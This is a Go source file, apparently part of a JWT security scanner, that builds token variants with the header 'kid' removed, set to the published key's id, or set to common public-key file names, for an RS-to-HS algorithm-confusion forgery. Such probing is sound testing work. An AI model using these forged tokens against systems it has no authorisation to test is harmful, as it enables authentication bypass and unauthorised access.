package keys

import (
	"github.com/authprobe/authprobe/internal/jose"
)

// keyFileNames are the names verifiers commonly load their public key
// from when they pick the key file by kid.
var keyFileNames = []string{"public.pem", "public_key.pem", "pubkey.pem", "jwt_public.pem", "key.pub"}

// kidKeyNames are the key encodings tried with a changed kid: the PEM forms
// servers read from files (with and without the trailing newline).
var kidKeyNames = map[string]bool{"spki-pem": true, "spki-pem-no-newline": true, "pkcs1-pem": true}

// confusionKid is the token with its header kid changed, for an RS→HS
// confusion forgery against a verifier that chooses its key by kid.
type confusionKid struct {
	name string
	tok  *jose.Token
}

// confusionKids returns the token with its kid removed (when it has one), set
// to the published key's own id (when that differs), and set to common key
// file names. The claims are untouched; Resign changes those.
func confusionKids(tok *jose.Token, pubKid string) []confusionKid {
	kid, has := tok.Head["kid"].(string)
	var out []confusionKid
	with := func(name string, set map[string]any, del ...string) {
		h, err := jose.SetHeader(tok.HeaderJSON, set, del...)
		if err != nil {
			return
		}
		c := *tok
		c.HeaderJSON = h
		out = append(out, confusionKid{name: name, tok: &c})
	}
	if has {
		with("kid removed", nil, "kid")
	}
	if pubKid != "" && pubKid != kid {
		with("kid "+pubKid+" (the published key's)", map[string]any{"kid": pubKid})
	}
	for _, f := range keyFileNames {
		if f != kid {
			with("kid "+f, map[string]any{"kid": f})
		}
	}
	return out
}
